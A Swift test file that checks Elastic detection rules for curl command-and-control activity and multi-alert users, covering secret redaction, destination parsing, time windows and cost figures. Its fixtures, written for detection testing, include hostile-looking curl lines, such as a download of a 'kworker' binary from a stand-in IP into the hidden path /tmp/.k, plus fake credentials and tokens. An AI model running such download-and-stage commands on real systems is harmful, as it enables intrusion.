import Foundation
import Testing
@testable import TriageEval
import EsqlEngine

/// Elastic's own rules over crafted documents: the curl rule's redactions, destination parsing and
/// prevalence filter, the identity rule's 5-minute windows, and the economics of executions.
@Suite struct ElasticRulesOverDocumentsTests {
    static func rule(_ name: String) throws -> DetectionRule {
        try DetectionRule(toml: try RuleFixtures.text(name), file: name)
    }

    static func curl(_ host: String, _ args: [String], minute: Int = 0) -> CaseDocument {
        let quoted = args.map { "\"" + $0.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"") + "\"" }
        let source = #"{"@timestamp":"2026-03-02T09:0\#(minute):00.000Z","event":{"category":["process"],"type":["start"],"action":"exec"},"host":{"id":"\#(host)-id","name":"\#(host)"},"user":{"name":"ci"},"process":{"name":"curl","args":[\#(quoted.joined(separator: ","))],"parent":{"executable":"/usr/bin/bash"}},"data_stream":{"namespace":"default"}}"#
        return CaseDocument(index: "logs-endpoint.events.process-default", id: "\(host)-\(minute)-\(args.count)", source: source)
    }

    @Test func curlRuleRedactsSecretsBeforeTheModelSeesThem() throws {
        let documents = [
            Self.curl("h1", ["curl", "-fSL", "-u", "ci-bot:S3cr3tPassw0rd", "https://nexus.corp.example.com/repository/releases/app.tar.gz", "-o", "app.tar.gz"]),
            Self.curl("h1", ["curl", "-s", "-o", "nightly.tar", "https://backupstore.example.net/backups/nightly.tar?sv=2024-05-04&sig=Zm9vYmFyYmF6&se=2026-03-03"]),
            Self.curl("h1", ["curl", "-s", "-H", "X-Api-Key: sk_live_51HxQ2bC9d", "https://billing.example.com/api/v1/status"]),
            Self.curl("h1", ["curl", "-s", "-H", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl", "https://deploy.corp.example.com/v1/releases"]),
            Self.curl("h1", ["curl", "-s", "--cookie", "session_jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl", "https://portal.example.com/me"]),
        ]
        let execution = try RuleExecution(rule: try Self.rule("current/command_and_control_curl_activity_llm_triage.toml"), documents: documents)
        let commands = Set(execution.rows.flatMap { $0.row["Esql.command_line_values"]?.elements.compactMap(\.singleText) ?? [] })
        #expect(commands == [
            " curl -fSL -u <REDACTED> https://nexus.corp.example.com/repository/releases/app.tar.gz -o app.tar.gz",
            " curl -s -o nightly.tar https://backupstore.example.net/backups/nightly.tar?sv=2024-05-04&sig=<REDACTED>&se=2026-03-03",
            " curl -s -H X-Api-Key: <REDACTED> https://billing.example.com/api/v1/status",
            " curl -s -H Authorization: Bearer <REDACTED> https://deploy.corp.example.com/v1/releases",
            " curl -s --cookie session_jwt=<REDACTED-JWT> https://portal.example.com/me",
        ])
        let prompts = execution.judged.compactMap(\.prompt).joined()
        for secret in ["S3cr3tPassw0rd", "Zm9vYmFyYmF6", "sk_live", "eyJ"] { #expect(!prompts.contains(secret)) }
    }

    @Test func curlRuleParsesDestinationsAndDropsPrevalentOnes() throws {
        let documents = ["web-01", "web-02", "web-03"].enumerated().map { Self.curl($1, ["curl", "-s", "https://updates.vendor-example.com/agent/check"], minute: $0) }
            + [
                Self.curl("web-02", ["curl", "-s", "-o", "/tmp/.k", "http://198.51.100.7:8080/kworker"], minute: 4),
                Self.curl("web-04", ["curl", "-s", "example.org/install.sh"], minute: 5),
                Self.curl("web-04", ["curl", "-s", "-"], minute: 6),
            ]
        let execution = try RuleExecution(rule: try Self.rule("current/command_and_control_curl_activity_llm_triage.toml"), documents: documents)
        // The port is stripped (REPLACE ":[0-9]+$"); the scheme-less host comes from the last token; "-" yields none;
        // updates.vendor-example.com is on three hosts and the prevalence filter drops it.
        #expect(execution.rows.map(\.key) == [
            "Esql.host_key=web-02-id, Esql.dest_host=198.51.100.7",
            "Esql.host_key=web-04-id, Esql.dest_host=example.org",
        ])
        #expect(execution.rows.map { $0.row["Esql.host_prevalence"] } == [.integer(1), .integer(1)])
        let prevalent = try RuleExecution(
            rule: try Self.rule("current/command_and_control_curl_activity_llm_triage.toml"), documents: Array(documents.prefix(3))
        )
        #expect(prevalent.notJudgedReason == "`WHERE Esql.destination_host_count < 3` (query line 52) dropped every remaining row")
    }

    @Test func identityRuleGroupsAlertsByFiveMinuteWindows() throws {
        func alert(_ user: String, _ module: String, _ category: String, _ time: String) -> CaseDocument {
            CaseDocument(
                index: ".alerts-security.alerts-default", id: user,
                source: #"{"@timestamp":"2026-03-02T\#(time)Z","kibana.alert.workflow_status":"open","kibana.alert.rule.type":"query","kibana.alert.rule.name":"R \#(user)","kibana.alert.risk_score":73,"event":{"module":"\#(module)","category":"\#(category)"},"user":{"name":"\#(user)","id":"id-\#(user)"}}"#
            )
        }
        let documents = [
            alert("bwayne", "okta", "authentication", "09:40:30.000"), alert("bruce.wayne", "endpoint", "process", "09:44:59.999"),
            alert("b.wayne@corp.example.com", "azure", "iam", "09:45:00.000"), alert("BWAYNE", "aws", "authentication", "09:47:30.000"),
        ]
        let execution = try RuleExecution(rule: try Self.rule("current/multiple_alerts_llm_by_user_entity.toml"), documents: documents)
        #expect(execution.rows.map(\.key) == [
            "Esql.time_window_date_trunc=2026-03-02T09:40:00.000Z", "Esql.time_window_date_trunc=2026-03-02T09:45:00.000Z",
        ])
        #expect(execution.rows.map { $0.prompt?.components(separatedBy: "Analyze").first } == [
            "User identities extracted from different alerts: bwayne,bruce.wayne", "User identities extracted from different alerts: b.wayne@corp.example.com,BWAYNE",
        ])
    }

    @Test func economicsCountLimitCapNotJudgedAndFailFastLosses() throws {
        let rule = try RuleExecutionTests.rule(RuleExecutionTests.curlRule)
        let one = try RuleExecution(rule: rule, documents: [RuleExecutionTests.doc("h1", minute: 1)])
        let five = try RuleExecution(rule: rule, documents: (1...5).map { RuleExecutionTests.doc("h\($0)", minute: $0) })
        let none = try RuleExecution(rule: rule, documents: [RuleExecutionTests.doc("h1", minute: 1, process: "wget")])
        let economics = RuleEconomics(executions: [one, five, none], intervalMillis: rule.intervalMillis)
        #expect(economics.executions == 3)
        #expect(economics.notJudged == 1)
        #expect(economics.rowsJudged == 4)
        #expect(economics.cutByLimit == 2)
        #expect(economics.cutByCap == 0)
        #expect(economics.callsPerExecution == [1, 3])
        // Every 5 minutes: 288 executions a day × 4/3 calls.
        #expect(economics.callsPerDay == 384)
        // With 10 % of calls failing: (1 − 0.9) and (1 − 0.9³) of the two calling executions are lost.
        let lost = try #require(economics.lostExecutionShare(errorRate: 0.1))
        #expect(abs(lost - 0.1855) < 1e-12)
        #expect(economics.lostExecutionShare(errorRate: 0) == 0)
        #expect(RuleEconomics(executions: [none], intervalMillis: nil).lostExecutionShare(errorRate: 0.1) == nil)
        #expect(RuleEconomics(executions: [none], intervalMillis: nil).callsPerDay == nil)
    }
}
